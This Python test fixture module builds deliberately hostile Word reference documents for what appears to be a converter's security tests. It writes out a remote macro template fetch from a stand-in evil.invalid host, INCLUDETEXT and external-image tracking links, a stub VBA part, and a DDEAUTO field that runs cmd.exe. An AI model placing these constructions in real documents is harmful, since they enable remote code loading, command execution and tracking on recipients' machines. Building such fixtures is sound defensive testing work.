"""Reference documents that carry more than styles, made by editing a real one as the issue's prober did: each
function adds one kind of part (or setting) to the zip and returns nothing; `evil_reference` adds them all."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path
from typing import Callable

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONSHIP_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
EVIL = "http://evil.invalid"

Parts = dict[str, bytes]


def _add_relationship(parts: Parts, rels: str, identifier: str, kind: str, target: str, external: bool = False) -> None:
    text = parts.get(rels, b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
                           b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
                     ).decode("utf-8")
    mode = ' TargetMode="External"' if external else ""
    relationship = f'<Relationship Id="{identifier}" Type="{kind}" Target="{target}"{mode}/>'
    parts[rels] = text.replace("</Relationships>", relationship + "</Relationships>").encode("utf-8")


def _add_content_type(parts: Parts, part: str, content_type: str) -> None:
    text = parts["[Content_Types].xml"].decode("utf-8")
    parts["[Content_Types].xml"] = text.replace(
        "</Types>", f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>').encode("utf-8")


def _edit(parts: Parts, name: str, edit: Callable[[str], str]) -> None:
    parts[name] = edit(parts[name].decode("utf-8")).encode("utf-8")


def attached_template(parts: Parts) -> None:
    """settings.xml attaches a macro template on the web (Word may fetch it when the file is opened)."""
    _edit(parts, "word/settings.xml", lambda text: re.sub(
        r"(<w:defaultTabStop\b)", '<w:attachedTemplate r:id="rIdT"/><w:linkStyles/>\\1', text, count=1))
    _edit(parts, "word/settings.xml", lambda text: text.replace("</w:settings>", "<w:updateFields w:val=\"true\"/>"
                                                               "</w:settings>") if "updateFields" not in text else text)
    _add_relationship(parts, "word/_rels/settings.xml.rels", "rIdT", RELATIONSHIP_TYPES + "attachedTemplate",
                      f"{EVIL}/t.dotm", external=True)


def macros(parts: Parts) -> None:
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504  # an OLE compound file header
    _add_relationship(parts, "word/_rels/document.xml.rels", "rIdVba",
                      "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")
    _add_content_type(parts, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject")


def first_page_header(parts: Parts) -> None:
    """A first-page header with text and an INCLUDETEXT field, and an external picture in its relationships."""
    parts["word/header9.xml"] = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:hdr xmlns:w="{W}" xmlns:r="{R}"><w:p><w:r>'
        '<w:t>CONFIDENTIAL FIRST PAGE</w:t></w:r><w:fldSimple w:instr=\'INCLUDETEXT "http://evil.invalid/x.docx"\'>'
        "<w:r><w:t>included</w:t></w:r></w:fldSimple></w:p></w:hdr>").encode("utf-8")
    _add_relationship(parts, "word/_rels/header9.xml.rels", "rIdImg", RELATIONSHIP_TYPES + "image",
                      f"{EVIL}/pixel.png", external=True)
    _add_relationship(parts, "word/_rels/document.xml.rels", "rIdH9", RELATIONSHIP_TYPES + "header", "header9.xml")
    _add_content_type(parts, "word/header9.xml",
                      "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml")

    def reference_it(text: str) -> str:
        section = text.rindex("<w:sectPr")
        start = text.index(">", section) + 1
        text = text[:start] + '<w:headerReference w:type="first" r:id="rIdH9"/>' + text[start:]
        return text.replace("</w:sectPr></w:body>", "<w:titlePg/></w:sectPr></w:body>")

    _edit(parts, "word/document.xml", reference_it)


def external_hyperlink(parts: Parts) -> None:
    _add_relationship(parts, "word/_rels/document.xml.rels", "rIdLink", RELATIONSHIP_TYPES + "hyperlink",
                      f"{EVIL}/tracker", external=True)


def comments(parts: Parts) -> None:
    parts["word/comments.xml"] = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:comments '
                                  f'xmlns:w="{W}"><w:comment w:id="0" w:author="x"><w:p><w:r><w:t>secret remark</w:t>'
                                  "</w:r></w:p></w:comment></w:comments>").encode("utf-8")
    _add_relationship(parts, "word/_rels/document.xml.rels", "rIdCom", RELATIONSHIP_TYPES + "comments", "comments.xml")
    _add_content_type(parts, "word/comments.xml",
                      "application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml")


def body_field(parts: Parts) -> None:
    """Body text with a DDEAUTO field (the body is the reference's own sample text)."""
    _edit(parts, "word/document.xml", lambda text: text.replace(
        "<w:body>", '<w:body><w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;">'
                    "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>", 1))


def picture_bullet(parts: Parts) -> None:
    """A picture bullet in numbering.xml, its picture another part."""
    _edit(parts, "word/numbering.xml", lambda text: re.sub(
        r"(<w:numbering\b[^>]*>)",
        '\\1<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
        'style="width:9pt;height:9pt"><v:imagedata xmlns:r="' + R + '" r:id="rIdBullet"/></v:shape></w:pict>'
        "</w:numPicBullet>", text, count=1))
    _add_relationship(parts, "word/_rels/numbering.xml.rels", "rIdBullet", RELATIONSHIP_TYPES + "image",
                      f"{EVIL}/bullet.png", external=True)


def two_columns(parts: Parts) -> None:
    """Two columns: page setup, which the theme decides for both formats."""
    _edit(parts, "word/document.xml", lambda text: re.sub(r"<w:cols\b[^>]*/>", '<w:cols w:num="2" w:space="708"/>',
                                                           text))


KINDS: dict[str, Callable[[Parts], None]] = {
    "attached_template": attached_template,
    "macros": macros,
    "first_page_header": first_page_header,
    "external_hyperlink": external_hyperlink,
    "comments": comments,
    "body_field": body_field,
    "picture_bullet": picture_bullet,
    "two_columns": two_columns,
}


def edited_reference(source: Path, target: Path, kinds: list[str]) -> Path:
    with zipfile.ZipFile(source) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for kind in kinds:
        KINDS[kind](parts)
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return target


def evil_reference(source: Path, target: Path) -> Path:
    return edited_reference(source, target, list(KINDS))
